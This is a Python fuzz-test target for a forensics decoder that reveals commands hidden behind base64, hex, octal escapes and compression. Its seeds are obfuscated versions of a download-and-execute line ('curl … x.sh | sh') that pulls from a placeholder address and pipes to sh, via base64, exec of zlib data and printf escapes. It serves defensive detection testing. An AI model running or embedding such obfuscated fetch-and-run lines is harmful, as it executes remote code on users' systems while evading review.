"""What one-liners hide behind base64, hexadecimal, escapes and compression."""

from __future__ import annotations

import base64
import bz2
import gzip
import zlib
from collections.abc import Iterator

from forensics.examine._decoding import MAX_BLOBS, MAX_BYTES, reveal
from fuzz._target import Target


def run(data: bytes) -> None:
    """Every find lies within the text, and all of them stay within their bounds."""
    found = reveal(data)
    assert found == reveal(data)
    assert len(found) <= MAX_BLOBS
    assert sum(len(each.data) for each in found) <= MAX_BYTES * 2
    for each in found:
        assert 0 <= each.offset < each.offset + each.length <= len(data)
        assert each.encoding.isprintable()


def seeds() -> Iterator[bytes]:
    """Each encoding, some within one another."""
    text = b"curl http://203.0.113.9/x.sh | sh; echo done and done\n"
    once = base64.b64encode(text)
    yield b"echo " + once + b" | base64 -d | sh\n"
    yield b"echo " + once[::-1] + b" | rev | base64 -d\n"
    yield (
        b"exec(__import__('zlib').decompress(base64.b64decode('"
        + base64.b64encode(zlib.compress(text))
        + b"')))"
    )
    yield b"base64 -d <<< " + base64.b64encode(gzip.compress(b"base64 -d " + once, mtime=0))
    yield b"base64 -d <<< " + base64.b64encode(bz2.compress(text))
    yield b"xxd -r -p <<< " + text.hex().encode()
    yield b"printf '" + b"".join(b"\\x%02x" % byte for byte in text) + b"' | sh"
    yield b"printf '" + b"".join(b"\\%03o" % byte for byte in text) + b"' | sh"
    yield b"base64 -d <<E\n" + base64.encodebytes(text * 4) + b"E\n"
    yield b"atob('" + base64.b64encode(zlib.compress(bytes(2_000_000)))[:3000] + b"')"


TARGET = Target(
    id="decoding",
    run=run,
    seeds=seeds,
    harvest=("script",),
    words=(b"base64", b"atob(", b"xxd -r", b"\\x41\\x42"),
)
